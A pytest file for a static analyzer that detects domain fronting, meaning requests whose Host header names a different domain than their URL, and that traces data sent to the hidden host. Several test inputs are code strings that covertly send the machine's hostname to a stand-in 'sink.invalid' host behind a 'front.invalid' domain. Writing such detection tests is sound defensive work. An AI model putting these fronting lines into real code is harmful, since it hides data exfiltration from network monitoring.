"""Requests whose `Host` header names another domain than their address."""

import pytest

from pratique.analysis.facts import Capability
from tests.analysis.languages.python.reading import facts


def fronts(source: str) -> list[str | None]:
    found = facts("import requests, socket, urllib.request\n" + source)
    return [use.argument for use in found.uses if use.api == "fronted-host"]


@pytest.mark.parametrize(
    "source",
    [
        "requests.get('https://front.invalid/x', headers={'Host': 'sink.invalid'})",
        "requests.get('https://front.invalid/?h=' + socket.gethostname(), headers={'host': 'sink.invalid'})",
        "h = {'Accept': '*/*', 'Host': 'sink.invalid'}\nrequests.get('https://front.invalid/x', headers=h)",
        "urllib.request.Request('https://front.invalid/x', b'', {'Host': 'sink.invalid'})",
    ],
)
def test_the_host_that_answers_is_told(source: str) -> None:
    assert fronts(source) == ["sink.invalid"]


@pytest.mark.parametrize(
    "source",
    [
        "requests.get('https://front.invalid/x', headers={'Host': 'front.invalid'})",
        "requests.get('https://files.own.invalid/x', headers={'Host': 'www.own.invalid'})",
        "requests.get('http://127.0.0.1:8000/x', headers={'Host': 'own.invalid'})",
        "requests.get(url, headers={'Host': 'own.invalid'})",
        "requests.get('https://front.invalid/x', headers={'Accept': 'own.invalid'})",
    ],
)
def test_a_header_of_the_same_domain_is_nothing(source: str) -> None:
    assert fronts(source) == []


def test_data_sent_so_is_told_with_the_host_that_gets_it() -> None:
    source = "import requests, socket\nrequests.post('https://front.invalid/', data=socket.gethostname(), headers={'Host': 'sink.invalid'})"
    assert [(flow.sink, flow.target) for flow in facts(source).flows] == [
        (Capability.NETWORK, "https://sink.invalid/")
    ]
